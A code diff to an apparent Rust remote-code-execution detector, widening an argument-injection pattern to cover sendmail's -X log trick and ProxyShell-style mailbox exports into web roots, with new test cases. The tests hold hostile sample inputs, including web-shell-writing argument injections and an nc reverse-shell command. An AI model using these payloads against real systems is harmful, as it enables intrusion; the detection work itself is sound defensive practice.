@@ -450,13 +450,15 @@ impl Rce {
                 r"\b_self\s*\.\s*env\s*\.|registerundefinedfiltercallback",
             ),
             // Options that make curl or wget write what they fetch to a script the web
-            // server runs (`a.pdf" -o C:\inetpub\wwwroot\shell.aspx "https://…`), and the
-            // JVM's `vmLog output=` and `JFR.start duration=… filename=` (through Jolokia's
-            // DiagnosticCommand) writing a log or a recording there. A log line's
-            // `filename=/srv/app/index.php` alone is not one.
+            // server runs (`a.pdf" -o C:\inetpub\wwwroot\shell.aspx "https://…`), sendmail's
+            // `-X` log file (SquirrelMail's and PHPMailer's argument injection), Exchange's
+            // `New-MailboxExportRequest -FilePath` (ProxyShell), and the JVM's `vmLog output=`
+            // and `JFR.start duration=… filename=` (through Jolokia's DiagnosticCommand)
+            // writing a log or a recording there. A log line's `filename=/srv/app/index.php`
+            // alone is not one.
             (
                 RCE_ARGUMENT_INJECTION,
-                r#"(?:^|\s)(?:-o\s*|--output(?:-document|-dir)?(?:\s+|\s*=\s*)|output\s*=\s*|duration\s*=\s*[0-9]+[a-z]*\s+(?:[a-z]+=\S*\s+){0,4}filename\s*=\s*)['"]?[^\s'"]{0,200}\.(?:php[0-9]?|phtml|aspx?|ashx|asmx|jspx?|cgi)\b"#,
+                r#"(?:^|\s)(?:-o\s*|-x\s*|-filepath\s+|--output(?:-document|-dir)?(?:\s+|\s*=\s*)|output\s*=\s*|duration\s*=\s*[0-9]+[a-z]*\s+(?:[a-z]+=\S*\s+){0,4}filename\s*=\s*)['"]?[^\s'"]{0,200}\.(?:php[0-9]?|phtml|aspx?|ashx|asmx|jspx?|cgi)\b"#,
             ),
             // Options that make git, ssh, tar, rsync, helm or npm run a command of the
             // caller's choosing.
@@ -1612,6 +1614,8 @@ mod tests {
                 "duration=10s filename=\"/opt/app/webapps/ROOT/s.jsp\"",
                 "a.pdf\" -oC:\\inetpub\\wwwroot\\s.aspx",
                 "--output-dir /var/www/html/x.php",
+                "eve@example.com\t-oQ/tmp/\t-X/var/www/html/sq.php\t-be",
+                "-Mailbox admin -FilePath \\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx",
                 "@{[system \"touch /tmp/blns.fail\"]}",
                 "system 'cat /etc/hosts'",
                 "exec \"nc -e /bin/sh 10.0.0.1 4444\"",
